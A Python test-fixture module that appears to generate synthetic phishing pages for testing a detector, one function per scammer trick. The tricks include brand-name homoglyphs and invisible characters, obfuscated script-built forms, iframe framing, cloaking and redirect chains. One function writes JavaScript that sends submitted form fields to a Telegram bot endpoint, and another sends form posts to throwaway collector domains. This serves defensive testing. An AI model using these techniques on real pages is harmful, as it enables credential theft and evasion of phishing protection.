"""What scammers do to a page, one function per kind; each changes a draft."""

from __future__ import annotations

import re
from collections.abc import Callable
from random import Random

from PIL import Image

from tests.farm import drawing, hiding
from tests.farm.html import (
    Manner,
    Node,
    Tag,
    as_creation,
    document,
    h,
    named,
    parent_of,
    render,
    swap,
    walk,
    with_role,
    words_of,
)
from tests.farm.saying import Speaker
from tests.farm.site import Answer, Answers, Face, always, moved, page, resource
from tests.farm.taste import FarmBrand, Half


class Draft:
    """A fake being made: its document as a tree, what is served beside it, and how it is written down."""

    def __init__(self, half: Half, rng: Random, brand: FarmBrand, say: Speaker, how: Manner) -> None:
        self.half, self.rng, self.brand, self.say, self.how = half, rng, brand, say, how
        self.root = h("html")
        self.language, self.host, self.path = "en", "", "/"
        self.extra: Answers = {}
        self.before: Answers = {}
        self.charset, self.tell_charset = "utf-8", True
        self.built: Tag | None = None
        self.faces: Callable[[Answer], tuple[Face, ...]] = always
        self.kind = ""

    @property
    def body(self) -> Tag:
        found = named(self.root, "body")
        assert found is not None
        return found

    @property
    def form(self) -> Tag | None:
        return next(iter(with_role(self.root, "form")), None)

    def put(self, path: str, body: bytes, media_type: str) -> str:
        """Serve a file at `path` of the site's own host."""
        self.extra[path] = always(resource(body, media_type))
        return path

    def answer(self) -> Answer:
        """The document, written down."""
        text = document(self.root, self.how)
        built = document(self.built, self.how) if self.built is not None else ""
        if self.charset == "utf-8":
            return page(text, built=built)
        text = text.replace("utf-8", self.charset, 1)
        raw = text.encode(self.charset, "xmlcharrefreplace")
        told = f"text/html; charset={self.charset}" if self.tell_charset else "text/html"
        return page(raw, built=built, headers=(("content-type", told),))


def _logo_image(draft: Draft) -> Image.Image:
    return drawing.logo(draft.brand.name, 48)


def _logo(draft: Draft, change: Callable[[Tag], Node | None]) -> None:
    for tag in with_role(draft.root, "logo"):
        new = change(tag)
        swap(draft.root, tag, *([] if new is None else [new]))


def logo_dropped(draft: Draft) -> None:
    _logo(draft, lambda _: None)
    for tag in with_role(draft.root, "icon"):
        swap(draft.root, tag)


def _logo_file(draft: Draft, image: Image.Image, *, packed: bool) -> None:
    body, media = drawing.reencoded(image, draft.rng) if packed else (drawing.encoded(image), "image/png")
    name = draft.rng.choice(("/static/logo", "/images/l", "/uploads/2026/logo", "/img/top", "/assets/brand"))
    path = draft.put(f"{name}{draft.rng.randint(1, 99)}.{media.rpartition('/')[2]}", body, media)

    def change(tag: Tag) -> Tag:
        return Tag("img", {**tag.attrs, "src": path}, [], "logo")

    _logo(draft, change)


def logo_reencoded(draft: Draft) -> None:
    _logo_file(draft, _logo_image(draft), packed=True)


def logo_recoloured(draft: Draft) -> None:
    _logo_file(draft, drawing.recoloured(_logo_image(draft), draft.rng), packed=False)


def logo_cropped(draft: Draft) -> None:
    _logo_file(draft, drawing.cropped(_logo_image(draft), draft.rng), packed=False)


def logo_background(draft: Draft) -> None:
    path = draft.put(f"/static/bg{draft.rng.randint(1, 99)}.png", drawing.encoded(_logo_image(draft)), "image/png")
    if draft.rng.random() < 0.5:
        _logo(
            draft,
            lambda _: h("i", class_="logo-bg", style=f"background:url({path}) no-repeat;width:200px;height:48px"),
        )
        return
    _logo(draft, lambda _: h("i", class_="logo-bg"))
    head = named(draft.root, "head")
    if head is not None:
        how = draft.how
        draft.how = Manner(**{**{name: getattr(how, name) for name in how.__struct_fields__}, "classes": "plain"})
        head.inside.append(h("style", f".logo-bg{{display:block;background-image:url('{path}');height:48px}}"))


def logo_inline(draft: Draft) -> None:
    address = drawing.as_data(drawing.encoded(_logo_image(draft)))
    _logo(draft, lambda tag: Tag("img", {**tag.attrs, "src": address}, [], "logo"))


def svg_logo(draft: Draft) -> None:
    name, (_, main, second) = draft.brand.name, drawing.colours(draft.brand.name)
    if draft.rng.random() < 0.5:
        address = drawing.as_data(drawing.encoded(_logo_image(draft)))
        _logo(draft, lambda _: h("svg", h("image", href=address, width="200", height="48"), viewBox="0 0 200 48"))
        return
    colour, other = (f"rgb{one}" for one in (main, second))
    _logo(
        draft,
        lambda _: h(
            "svg",
            h("circle", cx="20", cy="24", r="18", fill=other),
            h("text", name, x="46", y="32", fill=colour),
            viewBox="0 0 240 48",
        ),
    )


def _brand_words(draft: Draft, change: Callable[[str], str]) -> None:
    """Change the brand's words wherever they are read."""
    expression = re.compile(
        "|".join(re.escape(one) for one in (draft.brand.name, draft.brand.zh) if one), re.IGNORECASE
    )

    def changed(text: str) -> str:
        return expression.sub(lambda found: change(found[0]), text)

    for tag in walk(draft.root):
        if tag.name not in ("script", "style"):
            tag.inside[:] = [
                changed(one) if isinstance(one, str) and not one.startswith("\0") else one for one in tag.inside
            ]
        for key in ("alt", "content", "placeholder", "title"):
            if key in tag.attrs and not tag.attrs[key].startswith(("http", "/")):
                tag.attrs[key] = changed(tag.attrs[key])


_LOOKS = {
    "a": "аɑα", "e": "еҽ", "o": "оοօ", "i": "іɩ", "c": "сϲ", "p": "рρ", "x": "хҳ", "y": "уγ", "s": "ѕ", "K": "ΚК", "M": "МΜ", "B": "ВΒ", "T": "ТΤ",
    "H": "НΗ", "O": "ОΟ", "C": "СϹ", "A": "АΑ", "E": "ЕΕ", "v": "ѵν", "n": "ո", "u": "υս", "l": "ӏ", "V": "Ѵ", "Q": "Ԛ", "L": "Ꮮ", "N": "Ν",
}  # fmt: skip


def homoglyphs(draft: Draft) -> None:
    share = draft.rng.uniform(0.3, 0.9)

    def change(word: str) -> str:
        made = [
            draft.rng.choice(_LOOKS[one]) if one in _LOOKS and draft.rng.random() < share else one for one in word
        ]
        if "".join(made) == word:
            made = [_LOOKS[one][0] if one in _LOOKS else one for one in word]
        return "".join(made)

    _brand_words(draft, change)


def zero_width(draft: Draft) -> None:
    signs = draft.half.zero_width
    _brand_words(
        draft,
        lambda word: "".join(
            one + (draft.rng.choice(signs) if place == 0 or draft.rng.random() < 0.6 else "")
            for place, one in enumerate(word)
        ),
    )


def fullwidth(draft: Draft) -> None:
    _brand_words(draft, lambda word: "".join(chr(ord(one) + 0xFEE0) if "!" <= one <= "~" else one for one in word))


def bidi(draft: Draft) -> None:
    _brand_words(draft, lambda word: f"\u202e{word[::-1]}\u202c" if word.isascii() else f"\u2067{word}\u2069")


def entities(draft: Draft) -> None:
    def changed(text: str) -> str:
        made = []
        for one in text:
            made.append(draft.rng.choice((f"&#{ord(one)};", f"&#x{ord(one):X};", f"&#{ord(one):06d};")))
        return "".join(made)

    for tag in walk(draft.root):
        if tag.name in ("script", "style", "title"):
            continue
        tag.inside[:] = [
            "\0" + changed(one) if isinstance(one, str) and not one.startswith("\0") else one for one in tag.inside
        ]


def _in_pieces(draft: Draft, make: Callable[[str], list[Node]]) -> None:
    expression = re.compile(
        "(" + "|".join(re.escape(one) for one in (draft.brand.name, draft.brand.zh) if one) + ")"
    )
    for tag in list(walk(draft.root)):
        if tag.name in ("script", "style", "title", "option", "textarea", "button"):
            continue
        inside: list[Node] = []
        for one in tag.inside:
            if isinstance(one, str) and not one.startswith("\0"):
                for number, part in enumerate(expression.split(one)):
                    inside += make(part) if number % 2 else [part] if part else []
            else:
                inside.append(one)
        tag.inside[:] = inside


def split_words(draft: Draft) -> None:
    name = draft.rng.choice(("span", "b", "i", "font", "em"))

    def make(word: str) -> list[Node]:
        cut = draft.rng.randint(1, max(1, len(word) - 1))
        if draft.rng.random() < 0.4:
            return [h(name, one) for one in word]
        return [h(name, word[:cut]), h(name, word[cut:])]

    _in_pieces(draft, make)


def css_content(draft: Draft) -> None:
    rules: dict[str, str] = {}

    def make(word: str) -> list[Node]:
        key = rules.setdefault(word, f"w{len(rules)}{draft.rng.randint(10, 99)}")
        return [h("s", id=None, data_w=key)]

    _in_pieces(draft, make)
    head = named(draft.root, "head")
    if head is not None:
        text = "".join(
            f's[data-w="{key}"]::before{{content:"{word}";text-decoration:none}}' for word, key in rules.items()
        )
        head.inside.append(h("style", text))


def hotlink(draft: Draft) -> None:
    brand = draft.brand
    _logo(draft, lambda tag: Tag("img", {**tag.attrs, "src": brand.logo}, [], "logo"))
    for tag in with_role(draft.root, "icon"):
        tag.attrs["href"] = brand.icon
    body = draft.body
    if draft.rng.random() < 0.6:
        body.inside.append(h("img", src=brand.banner, alt=""))
    if draft.rng.random() < 0.4:
        head = named(draft.root, "head")
        if head is not None:
            head.inside.append(h("link", rel="stylesheet", href=f"https://{brand.static}/css/site.css"))
    if not with_role(draft.root, "logo"):
        body.inside.insert(0, h("img", src=brand.logo, alt=draft.rng.choice(("", brand.name)), role="logo"))


def policy_links(draft: Draft) -> None:
    brand, zh = draft.brand, draft.language == "zh"
    base = f"https://{brand.host}" + ("/zh" if zh else "")
    words = ("隐私政策", "关于我们", "风险披露") if zh else ("Privacy policy", "About us", "Risk disclosure")
    links = [
        h("a", text, href=base + path)
        for text, path in zip(words, ("/policy", "/about", "/policy#risk"), strict=True)
    ]
    draft.body.inside.append(h("div", *links[: draft.rng.randint(1, 3)], class_="links"))


def posts_elsewhere(draft: Draft) -> None:
    host = f"{draft.rng.choice(('api', 'collect', 'data', 'gate', 'x'))}.{draft.rng.choice(draft.half.names.unrelated)}{draft.rng.randint(1, 99)}.{draft.rng.choice(draft.half.names.cheap)}"
    for tag in with_role(draft.root, "form"):
        tag.attrs["action"] = (
            f"https://{host}/{draft.rng.choice(('save.php', 'api/login', 'post', 'p/in.php', 'submit'))}"
        )
        tag.attrs["method"] = "post"


def posts_bot(draft: Draft) -> None:
    token = f"{draft.rng.randint(10**9, 10**10 - 1)}:AA{''.join(draft.rng.choices('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-', k=33))}"
    chat = f"-100{draft.rng.randint(10**9, 10**10 - 1)}"
    script = (
        f"function send(f){{var t=new FormData(f),m='';t.forEach(function(v,k){{m+=k+': '+v+'\\n'}});"
        f"fetch('https://api.telegram.org/bot{token}/sendMessage',{{method:'POST',headers:{{'Content-Type':'application/json'}},"
        f"body:JSON.stringify({{chat_id:'{chat}',text:m}})}});return false}}"
    )
    for tag in with_role(draft.root, "form"):
        tag.attrs.pop("action", None)
        tag.attrs["onsubmit"] = "return send(this)"
    draft.body.inside.append(h("script", script))


def posts_fetch(draft: Draft) -> None:
    path = draft.rng.choice(("/api/user/login", "/gateway/v1/auth", "/index/api/save", "/prod-api/login"))
    verb = draft.rng.choice(
        (
            f"fetch('{path}',{{method:'POST',body:new FormData(document.forms[0])}})",
            f"axios.post('{path}',{{u:u.value,p:p.value}})",
            f"$.ajax({{url:'{path}',type:'post',data:$('form').serialize()}})",
            f"var x=new XMLHttpRequest();x.open('POST','{path}');x.send(new FormData(document.forms[0]))",
        )
    )
    for tag in with_role(draft.root, "form"):
        tag.attrs.pop("action", None)
    draft.body.inside.append(h("script", f"function doSubmit(){{{verb};}}"))


def text_picture(draft: Draft) -> None:
    """The words of the body become a picture; forms, the logo and links with addresses stay."""
    body = draft.body
    lines = [one for one in re.split(r"(?<=[.。!！?？])\s*|\s{2,}", words_of(body)) if one.strip()][:40]
    image = drawing.encoded(drawing.written(lines, sign=_logo_image(draft)), "JPEG", 80)
    path = draft.put(f"/img/{draft.rng.getrandbits(24):06x}.jpg", image, "image/jpeg")
    kept = with_role(draft.root, "form") + with_role(draft.root, "contact") + with_role(draft.root, "logo")
    scripts = [tag for tag in walk(body) if tag.name == "script"]
    body.inside[:] = [h("img", src=path, alt="", width="100%"), *kept, *scripts]


def deep_nesting(draft: Draft) -> None:
    low, high = draft.half.deep
    levels = draft.rng.randint(low, high) if draft.rng.random() < 0.7 else draft.rng.randint(low, 5000)
    name = draft.rng.choice(("div", "div", "span", "section", "font", "b", "center"))
    inner = draft.form or next(iter(with_role(draft.root, "contact")), None)
    if inner is None:
        return
    above = parent_of(draft.root, inner)
    assert above is not None
    opening, closing = f"<{name}>" * levels, f"</{name}>" * levels
    place = next(number for number, one in enumerate(above.inside) if one is inner)
    above.inside[place : place + 1] = ["\0" + opening, inner, "\0" + closing]


def _framed(draft: Draft, make: Callable[[Tag, str], Tag]) -> None:
    """Put the form, or the whole body, into a document of its own."""
    whole = draft.rng.random() < 0.4 or draft.form is None
    body = draft.body
    if whole:
        inner, body.inside[:] = h("body", *body.inside), []
    else:
        form = draft.form
        assert form is not None
        inner = h("body", form)
        swap(draft.root, form, h("div", role="gap"))
    text = document(h("html", h("head", h("meta", charset="utf-8")), inner), draft.how)
    frame = make(inner, text)
    gaps = with_role(draft.root, "gap")
    if gaps:
        swap(draft.root, gaps[0], frame)
    else:
        body.inside.append(frame)


def frame_own(draft: Draft) -> None:
    path = draft.rng.choice(("/inner.html", "/m/index.html", "/frame/login", "/h5/", "/wap/reg.html"))

    def make(_: Tag, text: str) -> Tag:
        draft.extra[path] = always(page(text))
        return h("iframe", src=path, width="100%", height="100%", frameborder="0")

    _framed(draft, make)


def frame_data(draft: Draft) -> None:
    from base64 import b64encode
    from urllib.parse import quote

    def make(_: Tag, text: str) -> Tag:
        if draft.rng.random() < 0.6:
            return h("iframe", src=f"data:text/html;charset=utf-8;base64,{b64encode(text.encode()).decode()}")
        return h("iframe", src=f"data:text/html;charset=utf-8,{quote(text)}")

    _framed(draft, make)


def frame_srcdoc(draft: Draft) -> None:
    _framed(draft, lambda _, text: h("iframe", srcdoc=text, style="border:0;width:100%;height:900px"))


def object_frame(draft: Draft) -> None:
    path = f"/{draft.rng.choice(('view', 'part', 'box'))}{draft.rng.randint(1, 99)}.html"

    def make(_: Tag, text: str) -> Tag:
        draft.extra[path] = always(page(text))
        return draft.rng.choice((h("object", data=path, type="text/html"), h("embed", src=path, type="text/html")))

    _framed(draft, make)


def form_outside(draft: Draft) -> None:
    form = draft.form
    if form is None:
        return
    fields = [tag for tag in walk(form) if tag.name in ("input", "textarea", "button")]
    form.attrs["id"] = "f1"
    for tag in fields:
        above = parent_of(form, tag)
        if above is not None:
            swap(form, tag)
        tag.attrs["form"] = "f1"
    draft.body.inside.append(h("div", *fields, class_="loose"))


def masked_field(draft: Draft) -> None:
    for tag in walk(draft.root):
        if tag.name == "input" and tag.attrs.get("type") == "password":
            tag.attrs["type"] = "text"
            tag.attrs["style"] = draft.rng.choice(
                ("-webkit-text-security:disc", "font-family:text-security-disc", "-webkit-text-security: circle;")
            )
            tag.attrs["autocomplete"] = "off"


def _script(draft: Draft, hide: hiding.Hiding, kind: str) -> None:
    """The form or the whole body is built by a script; what a browser has in the end is kept as `built`."""
    whole = draft.rng.random() < 0.5 or draft.form is None
    body = draft.body
    put = draft.rng.choice(hiding.PUTS[kind])
    if whole:
        markup = "".join(render(one, draft.how) for one in body.inside)
        draft.built = h("html", *[one for one in draft.root.inside if one is not body], h("body", "\0" + markup))
        kept: list[Node] = []
    else:
        form = draft.form
        assert form is not None
        markup = render(form, draft.how)
        draft.built = h(
            "html",
            *[one for one in draft.root.inside if one is not body],
            h("body", "\0" + "".join(render(one, draft.how) for one in body.inside)),
        )
        swap(draft.root, form, h("div", id="root"))
        kept = list(body.inside)
    code = hide(markup, draft.rng, put)
    if draft.rng.random() < 0.3:
        script = h(
            "script",
            src=draft.put(
                f"/js/{draft.rng.getrandbits(24):06x}.js", code.encode("utf-8", "replace"), "application/javascript"
            ),
        )
    else:
        script = h("script", code)
    body.inside[:] = [*kept, *([h("div", id="root")] if whole else []), script]


def script_write(draft: Draft) -> None:
    _script(draft, hiding.plain, "write")


def script_inner(draft: Draft) -> None:
    _script(draft, hiding.plain, "inner")


def script_atob(draft: Draft) -> None:
    _script(draft, hiding.atob, draft.rng.choice(("write", "inner")))


def script_charcode(draft: Draft) -> None:
    _script(draft, hiding.charcode, draft.rng.choice(("write", "inner")))


def script_escapes(draft: Draft) -> None:
    _script(draft, hiding.escapes, draft.rng.choice(("write", "inner")))


def script_reversed(draft: Draft) -> None:
    _script(draft, hiding.reversed_, draft.rng.choice(("write", "inner")))


def script_xor(draft: Draft) -> None:
    _script(draft, hiding.xored, draft.rng.choice(("write", "inner")))


def script_percent(draft: Draft) -> None:
    _script(draft, hiding.percent, draft.rng.choice(("write", "inner")))


def script_create(draft: Draft) -> None:
    inner = draft.form or next(iter(with_role(draft.root, "contact")), None)
    if inner is None:
        return
    draft.built = Tag("html", {}, ["\0" + "".join(render(one, draft.how) for one in draft.root.inside)])
    code = as_creation(inner, draft.how, draft.rng.choice(("e", "n", "_el")))
    swap(draft.root, inner, h("div", id="root"))
    first = code.partition(" ")[2].partition("=")[0]
    draft.body.inside.append(h("script", f"{code}\ndocument.getElementById('root').appendChild({first});"))


def template_tag(draft: Draft) -> None:
    body = draft.body
    draft.built = Tag("html", {}, ["\0" + "".join(render(one, draft.how) for one in draft.root.inside)])
    body.inside[:] = [
        h("template", *body.inside, id="t1"),
        h("script", "document.body.appendChild(document.getElementById('t1').content.cloneNode(true))"),
    ]


def shadow_root(draft: Draft) -> None:
    body = draft.body
    draft.built = Tag("html", {}, ["\0" + "".join(render(one, draft.how) for one in draft.root.inside)])
    if draft.rng.random() < 0.5:
        body.inside[:] = [h("main-view", h("template", *body.inside, shadowrootmode="open"))]
        return
    markup = "".join(render(one, draft.how) for one in body.inside)
    code = "var r=document.querySelector('main-view').attachShadow({mode:'closed'});" + hiding.plain(
        markup, draft.rng, "r.innerHTML={};"
    )
    body.inside[:] = [h("main-view"), h("script", code)]


def other_charset(draft: Draft) -> None:
    draft.charset = draft.rng.choice(
        ("gb18030", "gbk", "big5", "utf-16") if draft.language == "zh" else ("utf-16", "windows-1252", "gb18030")
    )
    draft.tell_charset = draft.charset == "utf-16" or draft.rng.random() < 0.5


def comment_noise(draft: Draft) -> None:
    words = [draft.say.one(draft.half.banks["prose"]) for _ in range(5)]
    how = draft.how
    noise = (
        *(f"<!-- {one.replace('--', '')} -->" for one in words),
        "",
        f'<i style="display:none">{words[0]}</i>',
        "<!---->",
    )
    draft.how = Manner(**{**{name: getattr(how, name) for name in how.__struct_fields__}, "noise": noise})


def _others(draft: Draft) -> Answer:
    """What those get who are not meant."""
    match draft.rng.randrange(5):
        case 0:
            return page(
                "<html><head><title>404 Not Found</title></head><body><center><h1>404 Not Found</h1></center><hr>nginx</body></html>",
                status=404,
            )
        case 1:
            return page(document(draft.half.plain(draft.half, draft.rng, draft.say, "parked"), draft.how))
        case 2:
            return moved(
                f"https://{draft.rng.choice(('www.', ''))}{draft.rng.choice(draft.half.names.honest_first)}search.example/"
            )
        case _:
            return page(document(draft.half.plain(draft.half, draft.rng, draft.say, "blog"), draft.how))


def cloak_agent(draft: Draft) -> None:
    other = _others(draft)
    agent = draft.rng.choice(("mobile", "mobile", "mobile", "desktop"))
    draft.faces = lambda answer: (Face(answer=answer, agent=agent), Face(answer=other))


def cloak_language(draft: Draft) -> None:
    other = _others(draft)
    language = "zh" if draft.language != "en" else "en"
    draft.faces = lambda answer: (Face(answer=answer, language=language), Face(answer=other))


def cloak_referrer(draft: Draft) -> None:
    other = _others(draft)
    draft.faces = lambda answer: (Face(answer=answer, referred=True), Face(answer=other))


def parked_then_live(draft: Draft) -> None:
    kind = draft.rng.choice(("parked", "parked", "empty", "default"))
    draft.before = {
        draft.path: always(page(document(draft.half.plain(draft.half, draft.rng, draft.say, kind), draft.how)))
    }


def refresh_chain(draft: Draft) -> None:
    start, target = (
        draft.path.partition("#")[0],
        f"/{draft.rng.choice(('go', 'in', 'home', 'wap'))}/{draft.rng.getrandbits(16):04x}",
    )
    other = f"https://{draft.rng.choice(('t', 'r', 'jump'))}.{draft.rng.choice(draft.half.names.unrelated)}{draft.rng.randint(1, 99)}.{draft.rng.choice(draft.half.names.cheap)}/x{draft.rng.randint(1, 999)}"
    there = f"https://{draft.host}{target}"
    match draft.rng.randrange(3):
        case 0:
            first: Answer = moved(other)
        case 1:
            first = page(f'<meta http-equiv="refresh" content="0; url={other}">')
        case _:
            first = page(f'<html><script>window.location.replace("{other}")</script></html>')
    draft.extra[start] = always(first)
    draft.extra[other] = always(moved(there, 301))
    draft.path = target


def traditional(draft: Draft) -> None:
    import opencc

    turn = opencc.OpenCC("s2twp").convert
    for tag in walk(draft.root):
        if tag.name not in ("script", "style"):
            tag.inside[:] = [turn(one) if isinstance(one, str) else one for one in tag.inside]
        for key in ("placeholder", "alt", "content", "value", "aria-label"):
            if key in tag.attrs:
                tag.attrs[key] = turn(tag.attrs[key])
    if "lang" in draft.root.attrs:
        draft.root.attrs["lang"] = "zh-Hant"


#: kind → (group, of which one site has one at most; what it does); in the order in which they are applied
MUTATIONS: dict[str, tuple[str, Callable[[Draft], None]]] = {
    "traditional": ("script of words", traditional),
    "logo_dropped": ("logo", logo_dropped),
    "logo_reencoded": ("logo", logo_reencoded),
    "logo_recoloured": ("logo", logo_recoloured),
    "logo_cropped": ("logo", logo_cropped),
    "logo_background": ("logo", logo_background),
    "logo_inline": ("logo", logo_inline),
    "svg_logo": ("logo", svg_logo),
    "hotlink": ("logo", hotlink),
    "homoglyphs": ("words", homoglyphs),
    "zero_width": ("words", zero_width),
    "fullwidth": ("words", fullwidth),
    "bidi": ("words", bidi),
    "split_words": ("words", split_words),
    "css_content": ("words", css_content),
    "entities": ("words", entities),
    "policy_links": ("links", policy_links),
    "posts_elsewhere": ("posts", posts_elsewhere),
    "posts_bot": ("posts", posts_bot),
    "posts_fetch": ("posts", posts_fetch),
    "masked_field": ("field", masked_field),
    "text_picture": ("structure", text_picture),
    "deep_nesting": ("structure", deep_nesting),
    "frame_own": ("structure", frame_own),
    "frame_data": ("structure", frame_data),
    "frame_srcdoc": ("structure", frame_srcdoc),
    "object_frame": ("structure", object_frame),
    "form_outside": ("structure", form_outside),
    "script_write": ("script", script_write),
    "script_inner": ("script", script_inner),
    "script_atob": ("script", script_atob),
    "script_charcode": ("script", script_charcode),
    "script_escapes": ("script", script_escapes),
    "script_create": ("script", script_create),
    "script_reversed": ("script", script_reversed),
    "script_xor": ("script", script_xor),
    "script_percent": ("script", script_percent),
    "template_tag": ("script", template_tag),
    "shadow_root": ("script", shadow_root),
    "other_charset": ("charset", other_charset),
    "comment_noise": ("noise", comment_noise),
    "cloak_agent": ("serving", cloak_agent),
    "cloak_language": ("serving", cloak_language),
    "cloak_referrer": ("serving", cloak_referrer),
    "parked_then_live": ("born", parked_then_live),
    "refresh_chain": ("chain", refresh_chain),
}
